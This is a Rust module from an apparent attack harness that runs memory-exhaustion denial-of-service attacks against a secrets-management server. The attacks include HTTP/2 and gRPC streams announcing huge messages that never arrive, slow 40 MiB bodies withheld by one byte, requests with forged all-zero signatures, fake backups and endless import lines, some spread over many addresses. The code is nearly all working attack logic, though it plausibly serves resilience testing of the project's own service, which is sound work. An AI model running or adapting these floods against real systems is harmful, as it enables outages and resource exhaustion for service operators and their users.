//! Announced lengths and large bodies: memory that a server may allocate too early or free too late.

use std::sync::Arc;

use super::attack::{Attack, work};
use crate::attacker::{Answer, Attacker};
use crate::wire::*;

pub const ATTACKS: &[Attack] = &[
    Attack::new(
        "announced-anonymous",
        "three connections with 500 streams, each five bytes that announce 4 MiB to reflection, health and log-in",
        work!(announced_anonymous),
    ),
    Attack::new(
        "announced-everywhere",
        "the same from 60 addresses, 100 streams each",
        work!(announced_everywhere),
    )
    .long(),
    Attack::new(
        "announced-with-token",
        "390 streams that announce 40 MiB each, with a token",
        work!(announced_with_token),
    ),
    Attack::new(
        "announced-grpc-web",
        "390 requests of gRPC-Web that announce 40 MiB each, with a token",
        work!(announced_grpc_web),
    )
    .long(),
    Attack::new(
        "large-bodies",
        "60 bodies of 40 MiB, all but their last byte, with a token",
        work!(large_bodies),
    )
    .until_answered(4),
    Attack::new(
        "large-messages",
        "60 gRPC messages of 40 MiB, all but their last byte, with a token",
        work!(large_messages),
    )
    .long(),
    Attack::new(
        "large-signed-bodies",
        "the same over REST with a wrong signature of a known access key: no secret is needed",
        work!(large_signed_bodies),
    )
    .until_answered(4),
    Attack::new(
        "large-stream-messages",
        "20 streamed imports over gRPC-Web of one message of 40 MiB, all but the last byte, with a token",
        work!(large_stream_messages),
    )
    .long(),
    Attack::new(
        "large-backups",
        "60 backups of 40 MB to restore that are none, with a token",
        work!(large_backups),
    )
    .long(),
    Attack::new(
        "endless-lines",
        "300 streamed imports whose first line never ends, with a token",
        work!(endless_lines),
    )
    .until_answered(4),
];

const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const HEALTH: &str = "/grpc.health.v1.Health/Check";
const LOG_IN: &str = "/strongroom.v1.Iam/CreateToken";
const IMPORT: &str = "/strongroom.v1.Batches/BatchImportSecrets";

const MIB: usize = 1 << 20;

/// Most bytes of a body by default.
const BODY: usize = 40 * MIB;

/// Streams that each announce a message, which never comes.
fn announcements(streams: u32, length: usize, path: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let mut bytes = opening(&[]);
    for number in 0..streams {
        let stream = number * 2 + 1;
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &path(number)));
        bytes.extend(frame(DATA, 0, stream, &announced(length as u32)));
    }
    bytes
}

fn anonymous(number: u32) -> Vec<u8> {
    grpc_block([REFLECTION, HEALTH, LOG_IN][number as usize % 3], None)
}

async fn announced_anonymous(attacker: Attacker) {
    attacker.hold(3, announcements(500, 4 * MIB, anonymous), Answer::Read, None).await;
}

async fn announced_everywhere(attacker: Attacker) {
    let attacker = attacker.spread_over_addresses();
    attacker.hold(60, announcements(100, 4 * MIB, anonymous), Answer::Read, None).await;
}

async fn announced_with_token(attacker: Attacker) {
    let block = grpc_block(IMPORT, Some(&attacker.target.token));
    attacker.hold(1, announcements(390, BODY, |_| block.clone()), Answer::Read, None).await;
}

async fn announced_grpc_web(attacker: Attacker) {
    let length = (BODY + 5).to_string();
    let headers = [
        ("x-auth-token", attacker.target.token.as_str()),
        ("content-type", "application/grpc-web+proto"),
        ("content-length", &length),
    ];
    let request = [head("POST", IMPORT, &headers).as_bytes(), &announced(BODY as u32)].concat();
    attacker.hold(390, request, Answer::Read, None).await;
}

/// Sends each connection's head and a body of `BODY` bytes but for the last, then waits.
async fn all_but_the_last_byte(attacker: Attacker, connections: usize, head: Vec<u8>) {
    let (head, piece) = (Arc::new(head), Arc::new(vec![b' '; MIB]));
    attacker
        .repeat(connections, move |attacker| {
            let (head, piece) = (head.clone(), piece.clone());
            async move {
                let Some(stream) = attacker.connect().await else { return };
                let (reader, mut writer) = stream.into_split();
                let mut reading = attacker.read(reader, Answer::Read);
                let mut left = BODY - 1;
                let mut listening = attacker.send(&mut writer, &head).await;
                while listening && left > 0 {
                    let part = &piece[..left.min(MIB)];
                    listening = attacker.send(&mut writer, part).await;
                    left -= part.len();
                }
                if listening {
                    reading.join_next().await;
                }
                // Whoever was told off comes back, but not at once.
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            }
        })
        .await;
}

async fn large_bodies(attacker: Attacker) {
    let length = BODY.to_string();
    let headers = [
        ("x-auth-token", attacker.target.token.as_str()),
        ("content-type", "application/json"),
        ("content-length", &length),
    ];
    let head = head("POST", &attacker.target.path("/secrets/batch-import"), &headers).into_bytes();
    all_but_the_last_byte(attacker, 60, head).await;
}

async fn large_messages(attacker: Attacker) {
    // A message of that many bytes with its five in front.
    let length = (BODY + 5).to_string();
    let headers = [
        ("x-auth-token", attacker.target.token.as_str()),
        ("content-type", "application/grpc-web+proto"),
        ("content-length", &length),
    ];
    let head = [head("POST", IMPORT, &headers).as_bytes(), &announced(BODY as u32)].concat();
    all_but_the_last_byte(attacker, 60, head).await;
}

async fn large_signed_bodies(attacker: Attacker) {
    let length = BODY.to_string();
    let date = crate::target::sdk_date();
    let authorization = format!(
        "SDK-HMAC-SHA256 Access={}, SignedHeaders=content-type;host;x-sdk-date, Signature={}",
        attacker.target.access_key,
        "0".repeat(64)
    );
    let headers = [
        ("authorization", authorization.as_str()),
        ("x-sdk-date", &date),
        ("content-type", "application/json"),
        ("content-length", &length),
    ];
    let head = head("POST", &attacker.target.path("/secrets/batch-import"), &headers).into_bytes();
    all_but_the_last_byte(attacker, 60, head).await;
}

async fn large_stream_messages(attacker: Attacker) {
    let length = (BODY + 5).to_string();
    let headers = [
        ("x-auth-token", attacker.target.token.as_str()),
        ("content-type", "application/grpc-web+proto"),
        ("content-length", &length),
    ];
    let path = "/strongroom.v1.Batches/ImportSecretsWithProgress";
    let head = [head("POST", path, &headers).as_bytes(), &announced(BODY as u32)].concat();
    all_but_the_last_byte(attacker, 20, head).await;
}

async fn large_backups(attacker: Attacker) {
    let path = attacker.target.path("/secrets/restore");
    let body = format!(r#"{{"secret_blob":"{}"}}"#, "A".repeat(40_000_000));
    let request = Arc::new(json_request("POST", &path, Some(&attacker.target.token), &body));
    attacker
        .repeat(60, move |attacker| {
            let request = request.clone();
            async move {
                let Some(mut stream) = attacker.connect().await else { return };
                attacker.ask(&mut stream, &request).await;
            }
        })
        .await;
}

async fn endless_lines(attacker: Attacker) {
    let headers = [
        ("x-auth-token", attacker.target.token.as_str()),
        ("content-type", "application/x-ndjson"),
        ("content-length", "99999999999"),
    ];
    let head = head("POST", &attacker.target.path("/secrets/import-stream"), &headers).into_bytes();
    let piece = vec![b'x'; MIB / 4];
    attacker.flood(300, head, Answer::Read, move |_| piece.clone()).await;
}
